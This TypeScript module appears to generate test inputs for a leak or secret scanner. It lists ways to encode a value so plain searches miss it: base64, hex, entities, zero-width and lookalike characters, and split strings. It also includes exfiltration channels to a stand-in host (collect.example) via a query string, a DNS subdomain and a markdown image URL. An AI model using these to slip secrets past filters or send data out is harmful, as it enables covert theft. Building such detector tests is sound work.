/** Ways in which a value is written so that a plain search passes over it, and people or programs still read it. */
export const DISGUISES: { readonly [name: string]: (value: string) => string } = {
  "percent-encoded": (value) => encodeBytes(value, "%"),
  "percent-encoded where it must be": (value) =>
    encodeURIComponent(value).replace(/[-_.]/g, (char) => `%${hexOf(char)}`),
  "percent-encoded twice": (value) => encodeBytes(value, "%").replaceAll("%", "%25"),
  "JSON escapes": (value) => [...value].map((char) => `\\u${hexOf(char).padStart(4, "0")}`).join(""),
  "JSON escapes of every third": (value) =>
    [...value].map((char, at) => (at % 3 === 0 ? `\\u${hexOf(char).padStart(4, "0")}` : char)).join(""),
  "hexadecimal escapes": (value) => encodeBytes(value, "\\x"),
  "decimal entities": (value) => [...value].map((char) => `&#${char.charCodeAt(0)};`).join(""),
  "hexadecimal entities": (value) => [...value].map((char) => `&#x${hexOf(char)};`).join(""),
  base64: (value) => btoa(value),
  "base64 with words": (value) => btoa(`here it is: ${value} (keep)`),
  "base64 for addresses": (value) => btoa(value).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, ""),
  "base64 twice": (value) => btoa(btoa(value)),
  hexadecimal: (value) => encodeBytes(value, ""),
  "hexadecimal with spaces": (value) => encodeBytes(value, " ").trim(),
  "quoted-printable": (value) => encodeBytes(value, "="),
  "zero-width spaces": (value) => [...value].join("\u200b"),
  "zero-width joiners": (value) => [...value].join("\u2060"),
  "soft hyphens": (value) => value.replace(/(.{4})/g, "$1\u00ad"),
  "full width": (value) => value.replace(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  "mathematical letters": (value) => [...value].map(styled).join(""),
  "another direction": (value) => `\u202d${value}\u202c`,
  "combining marks": (value) => [...value].map((char) => `${char}\u0336`).join(""),
  "broken over lines": (value) => `${value.slice(0, value.length >> 1)}\n${value.slice(value.length >> 1)}`,
  "broken over lines, continued": (value) =>
    `${value.slice(0, value.length >> 1)}\\\n  ${value.slice(value.length >> 1)}`,
  "two texts put together": (value) => `"${value.slice(0, value.length >> 1)}" + "${value.slice(value.length >> 1)}"`,
  "JSON in JSON": (value) => JSON.stringify(JSON.stringify({ note: value })),
  "in a query": (value) => `https://collect.example/?q=${encodeURIComponent(value)}&v=1`,
  "in a host": (value) => `x.${encodeBytes(value, "")}.collect.example`,
  "in markup": (value) => `<b>${value}</b>`,
  "in a picture's address": (value) => `![x](https://collect.example/p.png?d=${btoa(value)})`,
};

function hexOf(char: string): string {
  return char.charCodeAt(0).toString(16).padStart(2, "0");
}

function encodeBytes(value: string, mark: string): string {
  return [...value].map((char) => `${mark}${hexOf(char)}`).join("");
}

function styled(char: string): string {
  if (/[a-z]/.test(char)) return String.fromCodePoint(0x1d41a + char.charCodeAt(0) - 97);
  if (/[A-Z]/.test(char)) return String.fromCodePoint(0x1d400 + char.charCodeAt(0) - 65);
  return /\d/.test(char) ? String.fromCodePoint(0x1d7ce + char.charCodeAt(0) - 48) : char;
}
